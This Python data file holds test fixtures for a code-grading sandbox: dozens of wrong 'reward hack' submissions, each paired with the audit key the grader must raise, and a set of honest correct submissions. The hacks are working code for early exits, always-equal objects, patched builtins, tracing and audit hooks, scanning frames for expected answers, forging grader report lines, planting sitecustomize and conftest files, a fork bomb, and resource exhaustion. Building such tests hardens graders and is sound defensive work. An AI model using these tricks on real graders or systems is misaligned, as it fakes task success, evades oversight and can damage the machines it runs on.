"""A corpus of documented reward hacks and of honest candidates for `POST /grade` (data only).

Every hack is a wrong candidate for one task, `solve(a, b) == a * b + 1`, that tries to earn
reward anyway with a technique documented in public reports (sources in
/work/shared/peers/reward-hacking.md and docs/security.md): early exits of every kind, skips,
self-signals, always-equal objects and subclasses of built-in types, replaced builtins and
modules, trace/profile/except/audit/monitoring hooks, frame and heap inspection for the expected
value, forged report lines, outliving children and threads, ctypes mutation of constants,
startup hooks planted for a later case, state carried between cases, resource exhaustion. Each
is graded as a `function` test and as an `asserts` test; `audit` names the audit key it must
raise. `naive_program` is the same candidate graded the way verl's sandbox_fusion reward does:
the candidate and the asserts concatenated into one program, passed when it exits 0.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

CASES = ((2, 3, 7), (4, 5, 21), (6, 6, 37))
"""(a, b, a * b + 1): the task's cases."""
WRONG = "def solve(a, b):\n    return 0\n"


@dataclass(frozen=True)
class Hack:
    """One reward-hacking technique, as a wrong candidate."""

    name: str
    code: str
    audit: str
    """The audit key the attempt must raise."""
    asserts: tuple[str, ...] = tuple(f"assert solve({a}, {b}) == {c}" for a, b, c in CASES)
    setup: str = "import math"
    timeout: float = 5.0
    memory_mb: int = 256

    def function_request(self) -> dict[str, Any]:
        """The hack graded as a function test."""
        cases = [{"args": [a, b], "expected": c} for a, b, c in CASES]
        return {
            "code": self.code,
            "tests": {"kind": "function", "entry_point": "solve", "cases": cases},
            "timeout": self.timeout,
            "memory_mb": self.memory_mb,
        }

    def asserts_request(self) -> dict[str, Any]:
        """The hack graded as an asserts test."""
        return {
            "code": self.code,
            "tests": {"kind": "asserts", "setup": self.setup, "asserts": list(self.asserts)},
            "timeout": self.timeout,
            "memory_mb": self.memory_mb,
        }

    def naive_program(self) -> str:
        """Candidate, setup and asserts as one program (sandbox_fusion's way)."""
        return "\n".join([self.code, self.setup, *self.asserts, ""])


def _with(code: str, body: str = "    return 0\n", head: str = "") -> str:
    return f"{head}{code}def solve(a, b):\n{body}"


TRACE_EXIT = """import os, sys
def _tracer(frame, event, arg):
    if event == "exception" and issubclass(arg[0], AssertionError):
        os._exit(0)
    return _tracer
"""

FIND_NONCE = """import os, sys
def _forge(value):
    frame = sys._getframe()
    while frame is not None:
        for v in list(frame.f_locals.values()):
            nonce = getattr(v, "nonce", None)
            if isinstance(nonce, str):
                line = '\\n\\x1eRLSB-GRADE ' + nonce + ' result [0,["ok",' + value + '],{}]\\n'
                os.write(1, line.encode())
                os._exit(0)
        frame = frame.f_back
"""

HACKS: tuple[Hack, ...] = (
    Hack("sys_exit_0_at_load", "import sys\nsys.exit(0)\n" + WRONG, "early_exits"),
    Hack("sys_exit_0_in_call", _with("import sys\n", "    sys.exit(0)\n"), "early_exits"),
    Hack("os_exit_0_at_load", "import os\nos._exit(0)\n" + WRONG, "early_exits"),
    Hack("os_exit_0_in_call", _with("import os\n", "    os._exit(0)\n"), "early_exits"),
    Hack("raise_system_exit", _with("", "    raise SystemExit\n"), "early_exits"),
    Hack("builtin_exit", _with("", "    exit()\n"), "early_exits"),
    Hack("builtin_quit", _with("", "    quit(0)\n"), "early_exits"),
    Hack("keyboard_interrupt", _with("", "    raise KeyboardInterrupt\n"), "early_exits"),
    Hack("generator_exit", _with("", "    raise GeneratorExit\n"), "early_exits"),
    Hack(
        "unittest_skip",
        _with("import unittest\n", "    raise unittest.SkipTest('later')\n"),
        "early_exits",
    ),
    Hack(
        "pytest_style_skip",
        _with("class Skipped(BaseException):\n    pass\n", "    raise Skipped('xfail')\n"),
        "early_exits",
    ),
    Hack("self_sigkill", _with("import os\n", "    os.kill(os.getpid(), 9)\n"), "signals_sent"),
    Hack(
        "self_sigterm",
        _with("import os, signal\n", "    os.kill(os.getpid(), signal.SIGTERM)\n"),
        "signals_sent",
    ),
    Hack(
        "raise_signal_usr1",
        _with("import signal\n", "    signal.raise_signal(signal.SIGUSR1)\n"),
        "signals_sent",
    ),
    Hack("abort", _with("import os\n", "    os.abort()\n"), "signals_sent"),
    Hack(
        "sigint_handler_exits_0",
        _with(
            "import os, signal\nsignal.signal(signal.SIGINT, lambda *a: os._exit(0))\n",
            "    os.kill(os.getpid(), signal.SIGINT)\n",
        ),
        "signals_sent",
    ),
    Hack(
        "exec_replaces_process",
        _with("import os, sys\n", "    os.execv(sys.executable, [sys.executable, '-c', 'pass'])\n"),
        "early_exits",
    ),
    Hack(
        "exit_0_from_thread",
        _with(
            "import os, threading, time\n",
            "    threading.Thread(target=os._exit, args=(0,)).start()\n    time.sleep(2)\n",
        ),
        "early_exits",
    ),
    Hack(
        "always_equal",
        "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    __hash__ = object.__hash__\n" + _with("", "    return AlwaysEqual()\n"),
        "opaque_values",
    ),
    Hack(
        "always_equal_everything",
        "class Everything:\n    def __eq__(self, o): return True\n"
        "    def __bool__(self): return True\n"
        "    def __float__(self): return 0.0\n    def __int__(self): return 0\n"
        "    def __lt__(self, o): return True\n    def __gt__(self, o): return True\n"
        "    def __sub__(self, o): return 0\n    def __rsub__(self, o): return 0\n"
        + _with("", "    return Everything()\n"),
        "opaque_values",
    ),
    Hack(
        "int_subclass_equal",
        "class Int(int):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n" + _with("", "    return Int(0)\n"),
        "opaque_values",
    ),
    Hack(
        "str_subclass_equal",
        "class Str(str):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = str.__hash__\n" + _with("", "    return Str('0')\n"),
        "opaque_values",
    ),
    Hack(
        "float_subclass_equal",
        "class Float(float):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = float.__hash__\n" + _with("", "    return Float(0.0)\n"),
        "opaque_values",
    ),
    Hack(
        "list_subclass_equal",
        "class List(list):\n    def __eq__(self, other):\n        return True\n"
        + _with("", "    return List()\n"),
        "opaque_values",
    ),
    Hack(
        "numpy_subclass_equal",
        "import numpy as np\nclass Arr(np.ndarray):\n    def __eq__(self, other):\n"
        "        return True\n" + _with("", "    return np.zeros(1).view(Arr)\n"),
        "opaque_values",
    ),
    Hack(
        "class_attribute_spoof",
        "class Fake:\n    __class__ = int\n    def __eq__(self, o): return True\n"
        + _with("", "    return Fake()\n"),
        "opaque_values",
    ),
    Hack(
        "replaced_builtin_abs",
        _with("import builtins\nbuiltins.abs = lambda x: 0\n"),
        "replaced_builtins",
        asserts=tuple(f"assert abs(solve({a}, {b}) - {c}) < 1e-9" for a, b, c in CASES),
    ),
    Hack(
        "replaced_builtin_round",
        _with("import builtins\nbuiltins.round = lambda x, n=0: 7\n"),
        "replaced_builtins",
        asserts=("assert round(solve(2, 3), 6) == 7",),
    ),
    Hack(
        "replaced_builtin_import",
        _with(
            "import builtins, types\n_real = builtins.__import__\n"
            "def _imp(name, *a, **k):\n"
            "    if name == 'math':\n"
            "        return types.SimpleNamespace(isclose=lambda *x, **y: True)\n"
            "    return _real(name, *a, **k)\n"
            "builtins.__import__ = _imp\n"
        ),
        "replaced_builtins",
        asserts=tuple(f"assert math.isclose(solve({a}, {b}), {c})" for a, b, c in CASES),
    ),
    Hack(
        "patched_math_isclose",
        _with("import math\nmath.isclose = lambda *a, **k: True\n"),
        "replaced_modules",
        asserts=tuple(f"assert math.isclose(solve({a}, {b}), {c})" for a, b, c in CASES),
    ),
    Hack(
        "replaced_sys_modules_math",
        _with(
            "import sys, types\n"
            "sys.modules['math'] = types.SimpleNamespace(isclose=lambda *a, **k: True)\n"
        ),
        "replaced_modules",
        asserts=tuple(f"assert math.isclose(solve({a}, {b}), {c})" for a, b, c in CASES),
    ),
    Hack(
        "patched_operator_eq",
        _with("import operator\noperator.eq = lambda a, b: True\n"),
        "replaced_modules",
        asserts=tuple(f"assert operator.eq(solve({a}, {b}), {c})" for a, b, c in CASES),
        setup="import operator",
    ),
    Hack(
        "patched_json_dumps",
        _with('import json\njson.dumps = lambda *a, **k: \'[0,["ok",["I","7"]],{}]\'\n'),
        "replaced_modules",
    ),
    Hack(
        "excepthook_exits_0",
        _with("import os, sys\nsys.excepthook = lambda *a: os._exit(0)\n"),
        "hooks_installed",
    ),
    Hack(
        "atexit_exits_0",
        _with("import atexit, os\natexit.register(os._exit, 0)\n"),
        "hooks_installed",
    ),
    Hack(
        "trace_hook_swallows_assert",
        _with(TRACE_EXIT + "sys.settrace(_tracer)\nsys._getframe().f_trace = _tracer\n"),
        "hooks_installed",
    ),
    Hack(
        "profile_hook",
        _with(
            "import os, sys\n"
            "sys.setprofile(lambda f, e, a: os._exit(0) if e == 'c_exception' else None)\n"
        ),
        "hooks_installed",
    ),
    Hack(
        "threading_trace_hook",
        _with(TRACE_EXIT + "import threading\nthreading.settrace(_tracer)\n"),
        "hooks_installed",
    ),
    Hack(
        "audit_hook_exits_0",
        _with(
            "import os, sys\n"
            "sys.addaudithook(lambda e, a: os._exit(0) if e == 'sys.excepthook' else None)\n"
        ),
        "hooks_installed",
    ),
    Hack(
        "monitoring_hook",
        _with(
            "import os, sys\nm = sys.monitoring\nm.use_tool_id(3, 'hack')\n"
            "m.register_callback(3, m.events.RAISE, lambda *a: os._exit(0))\n"
            "m.set_events(3, m.events.RAISE)\n"
        ),
        "hooks_installed",
    ),
    Hack(
        "frame_walk_for_expected",
        _with(
            "import dis, sys\n",
            "    caller = sys._getframe(1)\n"
            "    for ins in dis.get_instructions(caller.f_code):\n"
            "        if ins.offset > caller.f_lasti and ins.opname == 'LOAD_CONST':\n"
            "            return ins.argval\n"
            "    return 0\n",
        ),
        "introspection",
    ),
    Hack(
        "frame_locals_for_expected",
        _with(
            "import inspect\n",
            "    for info in inspect.stack():\n"
            "        for name in ('expected', 'expected_output', 'answer'):\n"
            "            if name in info.frame.f_locals:\n"
            "                return info.frame.f_locals[name]\n"
            "    return 0\n",
        ),
        "introspection",
    ),
    Hack(
        "heap_scan_for_expected",
        _with(
            "import gc\n",
            "    for o in gc.get_objects():\n"
            "        if isinstance(o, dict) and 'expected' in o:\n"
            "            return o['expected']\n"
            "    return 0\n",
        ),
        "introspection",
    ),
    Hack(
        "forged_report_lines",
        _with(
            "import os\n",
            "    for nonce in ('0' * 16, 'deadbeefdeadbeef'):\n"
            '        line = \' result [0,["ok",["I","7"]],{}]\\n\'\n'
            "        os.write(1, ('\\x1eRLSB-GRADE ' + nonce + line"
            ").encode())\n"
            "    print('PASSED')\n    return 0\n",
        ),
        "forged_output",
    ),
    Hack(
        "forged_report_with_stolen_nonce",
        _with(FIND_NONCE, '    _forge(\'["S","PASSED"]\')\n    return 0\n'),
        "introspection",
    ),
    Hack(
        "outliving_child_forges",
        _with(
            "import os, time\n",
            "    if os.fork() == 0:\n"
            "        time.sleep(0.3)\n"
            '        os.write(1, b\'\\n\\x1eRLSB-GRADE x result [0,["ok",["I","7"]],{}]\\n\')\n'
            "        os._exit(0)\n"
            "    return 0\n",
        ),
        "processes_started",
    ),
    Hack(
        "outliving_thread_forges",
        _with(
            "import os, threading, time\n"
            "def _late():\n    time.sleep(0.05)\n"
            "    os.write(1, b'\\n\\x1eRLSB-GRADE x done {}\\n')\n",
            "    threading.Thread(target=_late, daemon=True).start()\n    return 0\n",
        ),
        "threads_started",
    ),
    Hack(
        "ctypes_mutates_constants",
        _with(
            "import ctypes, sys\n"
            "for _n in (7, 21, 37):\n"
            "    ctypes.c_uint32.from_address(id(_n) + 24).value = 0\n",
        ),
        "ctypes_uses",
    ),
    Hack(
        "startup_hook_planted",
        _with(
            "import os\n"
            "for _d in ('.', '/tmp', os.path.expanduser('~')):\n"
            "    try:\n"
            "        with open(os.path.join(_d, 'sitecustomize.py'), 'w') as f:\n"
            "            f.write('import os\\nos._exit(0)\\n')\n"
            "        with open(os.path.join(_d, 'hack.pth'), 'w') as f:\n"
            "            f.write('import os; os._exit(0)\\n')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        "files_written",
    ),
    Hack(
        "conftest_planted",
        _with(
            "with open('conftest.py', 'w') as f:\n"
            "    f.write('def pytest_runtest_makereport(item, call):\\n'\n"
            "            '    call.excinfo = None\\n')\n"
        ),
        "files_written",
    ),
    Hack(
        "state_carried_between_cases",
        _with(
            "import os\n",
            "    if os.path.exists('/tmp/answers'):\n"
            "        return int(open('/tmp/answers').read().split()[0])\n"
            "    open('/tmp/answers', 'w').write('21 37')\n"
            "    return 0\n",
        ),
        "files_written",
    ),
    Hack(
        "fork_bomb",
        _with("import os\n", "    while True:\n        os.fork()\n"),
        "processes_started",
    ),
    Hack(
        "memory_exhaustion",
        _with("", "    hog = []\n    while True:\n        hog.append(bytearray(1 << 24))\n"),
        "limits_reached",
    ),
    Hack(
        "disk_exhaustion",
        _with(
            "",
            "    with open('/tmp/fill', 'wb') as f:\n"
            "        while True:\n            f.write(b'x' * (1 << 20))\n",
        ),
        "files_written",
    ),
    Hack(
        "cpu_exhaustion",
        _with("", "    while True:\n        pass\n"),
        "limits_reached",
        timeout=1.0,
    ),
    Hack(
        "network_fetch_answer",
        _with(
            "import socket\n",
            "    try:\n        socket.create_connection(('93.184.216.34', 80), timeout=1)\n"
            "    except OSError:\n        pass\n    return 0\n",
        ),
        "network_attempts",
    ),
    Hack(
        "udp_exfiltration",
        _with(
            "import socket\n",
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    try:\n        s.sendto(b'answer?', ('8.8.8.8', 53))\n"
            "    except OSError:\n        pass\n    return 0\n",
        ),
        "network_attempts",
    ),
)


@dataclass(frozen=True)
class Honest:
    """A correct candidate and its tests: it must earn 1.0."""

    name: str
    request: dict[str, Any] = field(default_factory=dict)


def _function(name: str, code: str, entry: str, cases: list[tuple[Any, ...]]) -> Honest:
    tests = [{"args": list(args), "expected": expected} for *args, expected in cases]
    return Honest(
        name, {"code": code, "tests": {"kind": "function", "entry_point": entry, "cases": tests}}
    )


def _asserts(name: str, code: str, asserts: list[str], setup: str = "") -> Honest:
    tests = {"kind": "asserts", "setup": setup, "asserts": asserts}
    return Honest(name, {"code": code, "tests": tests})


def _stdio(name: str, code: str, cases: list[tuple[str, str]], language: str = "python") -> Honest:
    tests = [{"stdin": i, "expected_stdout": o} for i, o in cases]
    return Honest(
        name, {"code": code, "language": language, "tests": {"kind": "stdio", "cases": tests}}
    )


RIGHT = "def solve(a, b):\n    return a * b + 1\n"

HONEST: tuple[Honest, ...] = (
    _function("function_ints", RIGHT, "solve", [(a, b, c) for a, b, c in CASES]),
    _asserts("asserts_ints", RIGHT, [f"assert solve({a}, {b}) == {c}" for a, b, c in CASES]),
    _function(
        "float_within_tolerance",
        "def f(x):\n    return x / 3 * 3 + 1e-9\n",
        "f",
        [(0.1, 0.1), (1e6, 1e6)],
    ),
    _function("float_sum", "def f(a, b):\n    return a + b\n", "f", [(0.1, 0.2, 0.3)]),
    _function("tuple_as_list", "def f(x):\n    return (x, x + 1)\n", "f", [(1, [1, 2])]),
    _function(
        "nested_tuples",
        "def f():\n    return [(1, (2, 3)), (4, ())]\n",
        "f",
        [([[1, [2, 3]], [4, []]],)],
    ),
    _function(
        "nested_dict",
        "def f():\n    return {'a': [1, {'b': None}], 'c': 'd'}\n",
        "f",
        [({"a": [1, {"b": None}], "c": "d"},)],
    ),
    _function("returns_none", "def f(x):\n    x.append(1)\n", "f", [([], None)]),
    _function("unicode", "def f(s):\n    return s[::-1] + 'é'\n", "f", [("日本語", "語本日é")]),
    _function("emoji", "def f():\n    return '🙂' * 2\n", "f", [("🙂🙂",)]),
    _function("big_int", "def f(n):\n    return 2 ** n\n", "f", [(1000, 2**1000), (64, 2**64)]),
    _function(
        "negative_big_int", "def f():\n    return -(10 ** 300) - 7\n", "f", [(-(10**300) - 7,)]
    ),
    _function("bool_result", "def f(x):\n    return x > 2\n", "f", [(3, True), (1, False)]),
    _function("kwargs", "def f(a, *, scale=1):\n    return a * scale\n", "f", [(2, 2)]),
    Honest(
        "kwargs_call",
        {
            "code": "def f(a, *, scale=1):\n    return a * scale\n",
            "tests": {
                "kind": "function",
                "entry_point": "f",
                "cases": [{"args": [2], "kwargs": {"scale": 5}, "expected": 10}],
            },
        },
    ),
    _function(
        "leetcode_solution_class",
        "from typing import List\nclass Solution:\n"
        "    def twoSum(self, nums: List[int], target: int) -> List[int]:\n"
        "        seen = {}\n        for i, n in enumerate(nums):\n"
        "            if target - n in seen:\n                return [seen[target - n], i]\n"
        "            seen[n] = i\n        return []\n",
        "twoSum",
        [([2, 7, 11, 15], 9, [0, 1]), ([3, 2, 4], 6, [1, 2])],
    ),
    _function(
        "numpy_scalar",
        "import numpy as np\ndef f(xs):\n    return np.sum(np.array(xs))\n",
        "f",
        [([1, 2, 3], 6)],
    ),
    _function(
        "numpy_float",
        "import numpy as np\ndef f(x):\n    return np.sqrt(np.float64(x))\n",
        "f",
        [(2.0, 2**0.5)],
    ),
    _function(
        "numpy_array",
        "import numpy as np\ndef f(n):\n    return np.arange(n) * 2\n",
        "f",
        [(3, [0, 2, 4])],
    ),
    _function(
        "numpy_matrix",
        "import numpy as np\ndef f():\n    return np.eye(2)\n",
        "f",
        [([[1.0, 0.0], [0.0, 1.0]],)],
    ),
    _function(
        "sympy_inside", "import sympy\ndef f(n):\n    return int(sympy.prime(n))\n", "f", [(10, 29)]
    ),
    _function(
        "sympy_rational",
        "import sympy\ndef f():\n    return float(sympy.Rational(1, 3))\n",
        "f",
        [(1 / 3,)],
    ),
    _function(
        "counter",
        "from collections import Counter\ndef f(s):\n    return Counter(s)\n",
        "f",
        [("aab", {"a": 2, "b": 1})],
    ),
    _function(
        "defaultdict",
        "from collections import defaultdict\ndef f():\n"
        "    d = defaultdict(list)\n    d['x'].append(1)\n    return d\n",
        "f",
        [({"x": [1]},)],
    ),
    _function(
        "deque",
        "from collections import deque\ndef f():\n    return deque([1, 2])\n",
        "f",
        [([1, 2],)],
    ),
    _function(
        "stderr_output",
        "import sys\ndef f(x):\n    print('debug', x, file=sys.stderr)\n"
        "    print('also stdout')\n    return x\n",
        "f",
        [(4, 4)],
    ),
    _function(
        "seeded_random",
        "import random\ndef f():\n    random.seed(7)\n    return random.randint(0, 10**6)\n",
        "f",
        [(__import__("random").Random(7).randint(0, 10**6),)],
    ),
    _function(
        "recursion",
        "import sys\nsys.setrecursionlimit(10000)\ndef f(n):\n"
        "    return 0 if n == 0 else 1 + f(n - 1)\n",
        "f",
        [(3000, 3000)],
    ),
    _function(
        "string_list", "def f(s):\n    return s.split()\n", "f", [("a b  c", ["a", "b", "c"])]
    ),
    _function("empty_list", "def f():\n    return []\n", "f", [([],)]),
    _function("complex_number", "def f():\n    return 1j * 1j\n", "f", [(-1,)]),
    _asserts(
        "asserts_isclose",
        "def area(r):\n    import math\n    return math.pi * r * r\n",
        [
            "assert math.isclose(area(1), 3.14159265, rel_tol=1e-6)",
            "assert abs(area(2) - 12.5663706) < 1e-6",
        ],
        setup="import math",
    ),
    _asserts(
        "asserts_in_place_sort",
        "def sort_in_place(xs):\n    xs.sort()\n",
        ["xs = [3, 1, 2]\nsort_in_place(xs)\nassert xs == [1, 2, 3]"],
    ),
    _asserts(
        "asserts_class_state",
        "class Counter:\n    def __init__(self):\n        self.n = 0\n"
        "    def inc(self):\n        self.n += 1\n        return self.n\n",
        ["c = Counter(); c.inc(); assert c.inc() == 2", "assert Counter().n == 0"],
    ),
    _asserts(
        "asserts_generator",
        "def count(n):\n    yield from range(n)\n",
        ["assert list(count(3)) == [0, 1, 2]", "assert sum(count(5)) == 10"],
    ),
    _asserts(
        "asserts_raises",
        "def root(x):\n    if x < 0:\n        raise ValueError('neg')\n    return x ** 0.5\n",
        [
            "try:\n    root(-1)\nexcept ValueError:\n    pass\nelse:\n    assert False",
            "assert root(4) == 2",
        ],
    ),
    _asserts(
        "asserts_set_and_none",
        "def uniq(xs):\n    return set(xs)\ndef nothing():\n    return None\n",
        ["assert uniq([1, 1, 2]) == {1, 2}", "assert nothing() is None"],
    ),
    _asserts(
        "asserts_state_within_case",
        "memo = []\ndef push(x):\n    memo.append(x)\n    return len(memo)\n",
        ["push(1); push(2); assert push(3) == 3", "assert push(9) == 1"],
    ),
    _asserts(
        "asserts_helper_setup",
        RIGHT,
        ["assert check(solve)"],
        setup="def check(f):\n    return f(2, 3) == 7\n",
    ),
    _asserts(
        "asserts_humaneval_style",
        "def has_close(xs, t):\n    return any(abs(a - b) < t for i, a in enumerate(xs)"
        " for b in xs[i + 1:])\n",
        ["check(has_close)"],
        setup="def check(candidate):\n    assert candidate([1.0, 2.0, 3.9, 4.0], 0.3)\n"
        "    assert not candidate([1.0, 2.0, 3.0], 0.5)\n",
    ),
    _asserts(
        "asserts_entry_named_solution",
        "def solution(xs):\n    return sum(xs[::2])\n",
        ["assert solution([5, 8, 7, 1]) == 12"],
    ),
    _asserts(
        "asserts_unicode_bytes",
        "def enc(s):\n    return s.encode('utf-8')\n",
        ["assert enc('é') == b'\\xc3\\xa9'"],
    ),
    _asserts(
        "asserts_tuple_compare",
        "def pair():\n    return (1, 2)\n",
        ["assert pair() == (1, 2)", "a, b = pair(); assert a + b == 3"],
    ),
    _stdio(
        "stdio_sum",
        "a, b = map(int, input().split())\nprint(a + b)\n",
        [("1 2\n", "3\n"), ("10 20", "30")],
    ),
    _stdio(
        "stdio_trailing_whitespace", "print('a  ')\nprint('b')\nprint()\n", [("", "a\nb\n\n\n")]
    ),
    _stdio(
        "stdio_multiline",
        "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())\n",
        [("x\ny\n", "X\nY")],
    ),
    _stdio(
        "stdio_stderr_ignored",
        "import sys\nprint('log', file=sys.stderr)\nprint(42)\n",
        [("", "42")],
    ),
    _stdio(
        "stdio_cpp",
        '#include <iostream>\nint main(){long a,b;std::cin>>a>>b;std::cout<<a*b+1<<"\\n";}\n',
        [("2 3", "7"), ("4 5", "21")],
        language="cpp",
    ),
)
